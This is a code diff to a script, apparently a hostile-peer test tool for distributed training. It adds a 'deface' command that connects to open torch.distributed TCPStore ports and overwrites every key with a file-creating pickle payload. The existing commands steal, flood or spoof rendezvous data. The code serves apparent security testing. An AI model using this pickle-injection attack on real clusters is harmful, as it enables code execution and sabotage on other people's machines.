@@ -2,7 +2,9 @@
 
 ``stranger.py rob ADDRESS SECONDS`` connects to each port that opens and sends what gloo expects;
 ``stranger.py noise ADDRESS COUNT`` sends noise to them; ``stranger.py frozen HOST PORT YAML`` puts
-a configuration (its bytes in hexadecimal) where node 1 of 2 looks for that of node 0.
+a configuration (its bytes in hexadecimal) where node 1 of 2 looks for that of node 0;
+``stranger.py deface ADDRESS SECONDS FILE`` writes pickles that create a file over every key of each
+store that opens.
 """
 
 from __future__ import annotations
@@ -98,9 +100,32 @@ def frozen(host: str, port: int, config: str) -> None:
     print(key, flush=True)
 
 
+def deface(address: str, seconds: float, victim: Path) -> None:
+    """Write over every key of each store that opens, again and again for a moment."""
+    import torch.distributed as dist
+
+    payload = bomb(victim)
+    for port in _new_ports(address, seconds):
+        end = time.monotonic() + 3
+        with suppress(RuntimeError):  # not a store, or not any more
+            theirs: Any = dist.TCPStore(
+                address,
+                port,
+                is_master=False,
+                wait_for_workers=False,
+                timeout=timedelta(seconds=1),
+            )
+            while time.monotonic() < end:
+                for key in theirs.list_keys():
+                    theirs.set(key, payload)
+                time.sleep(0.01)
+
+
 if __name__ == "__main__":
     kind, where, what, *rest = sys.argv[1:]
     if kind == "frozen":
         frozen(where, int(what), bytes.fromhex(rest[0]).decode())
+    elif kind == "deface":
+        deface(where, float(what), Path(rest[0]))
     else:
         {"rob": rob, "noise": noise}[kind](where, int(what))
